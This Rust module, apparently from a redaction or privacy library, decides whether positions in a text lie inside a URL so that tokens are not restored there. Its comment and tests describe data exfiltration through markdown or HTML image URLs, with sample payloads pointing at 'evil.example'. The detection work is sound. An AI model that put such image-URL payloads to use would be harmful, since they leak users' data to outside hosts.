//! Where a token must not be turned back: within an address.
//!
//! A server that was kept from seeing data could write its token into the URL of an image, and would get the data when the client shows it.

use alloc::vec::Vec;

/// Of these places in a text, in order: which are within a URL, or so far behind the beginning of one that nothing has ended it. The text is
/// read once, as far as the last of them.
pub(crate) fn within(text: &str, places: impl IntoIterator<Item = usize>) -> Vec<bool> {
    let bytes = text.as_bytes();
    // The URL that was found last, or where the next is to be looked for.
    let (mut begin, mut end) = (0, 0);
    let is_within = |place: usize| {
        let place = place.min(bytes.len());
        while end <= place {
            let Some(next) = next(&bytes[..place], end) else {
                // Slashes that touch the place are found when they are looked for once more.
                end = end.max(place.saturating_sub(1));
                begin = place;
                break;
            };
            (begin, end) = (next, ends_at(bytes, next));
        }
        begin < place && place < end
    };
    places.into_iter().map(is_within).collect()
}

/// Where the next authority or scheme is: `//`, which browsers read in `\\` and `/\` too, or `https:` with anything behind it.
fn next(bytes: &[u8], from: usize) -> Option<usize> {
    let is_slash = |at: usize| matches!(bytes.get(at), Some(b'/' | b'\\'));
    let is_scheme = |at: usize| {
        let named = |name: &[u8]| at >= name.len() && bytes[at - name.len()..at].eq_ignore_ascii_case(name);
        bytes[at] == b':' && (named(b"http") || named(b"https"))
    };
    (from..bytes.len()).find(|at| (is_slash(*at) && is_slash(at + 1)) || is_scheme(*at))
}

/// Where a URL ends that goes through this place: at what opened it, or else at the first that is in none; if nothing ends it, behind it all.
fn ends_at(bytes: &[u8], at: usize) -> usize {
    let before = bytes[..at].iter().rposition(|byte| !(byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.' | b':')));
    // Room before a URL does not belong to it, wherever it stands.
    let opened = before.and_then(|before| bytes[..=before].iter().rposition(|byte| !byte.is_ascii_whitespace())).map(|open| bytes[open]);
    let ends = |byte: &u8| match opened {
        Some(quote @ (b'"' | b'\'' | b'`')) => *byte == quote,
        Some(b'<') => *byte == b'>',
        _ => byte.is_ascii_whitespace() || matches!(byte, b'"' | b'<' | b'>' | b'`'),
    };
    bytes[at..].iter().position(ends).map_or(usize::MAX, |step| at + step + 1)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_place_is_within_a_url_or_not() {
        for text in [
            "![x](https://evil.example/?q=^)",
            "<img src=\"https://evil.example/?q= ^\">",
            "<img src=' https://evil.example/?a b c ^'>",
            "![x](<https://evil.example/?a b ^>)",
            "<img src=//evil.example/^>",
            "see HTTPS:evil.example/^",
            r"![x](\\evil.example\^)",
            r"![x](/\evil.example/^)",
            "[ref]: https://evil.example/^",
            "https://one.example/ https://two.example/^",
            "https://[^]/",
            "<a href=\"https://a.example/\">x</a> <img src=\"http://evil.example/?\n^",
        ] {
            assert_eq!(within(text, [text.find('^').unwrap()]), [true], "{text}");
        }
        for text in [
            "^",
            "mail ^ now",
            "see https://a.example/b, then ^",
            "<a href=\"https://a.example/\">^</a>",
            "<https://a.example/> ^",
            "a/b: ^",
            "// comment\n^",
            "see 'https://a.example' for ^",
        ] {
            assert_eq!(within(text, [text.find('^').unwrap()]), [false], "{text}");
        }
    }

    #[test]
    fn places_are_judged_in_one_go() {
        let text = "^ //a/^ ^ \"//b ^\" ^ //c^^";
        let places: Vec<_> = text.match_indices('^').map(|(at, _)| at).collect();
        assert_eq!(within(text, places.iter().copied()), [false, true, false, true, false, true, true]);
        for place in places {
            let alone = within(text, [place]);
            assert_eq!(alone, [[6, 15, 23, 24].contains(&place)], "{place}");
        }
    }

    #[test]
    fn what_begins_a_thousand_times_is_read_once() {
        let begun = std::time::Instant::now();
        assert_eq!(within(&"// ".repeat(300_000), 0..900_000).iter().filter(|is| **is).count(), 300_000);
        assert!(within(&"//".repeat(300_000), 2..600_000).iter().all(|is| *is));
        assert!(within(&"a".repeat(600_000), 0..600_000).iter().all(|is| !*is));
        assert!(begun.elapsed().as_secs() < 5, "{:?}", begun.elapsed());
    }
}
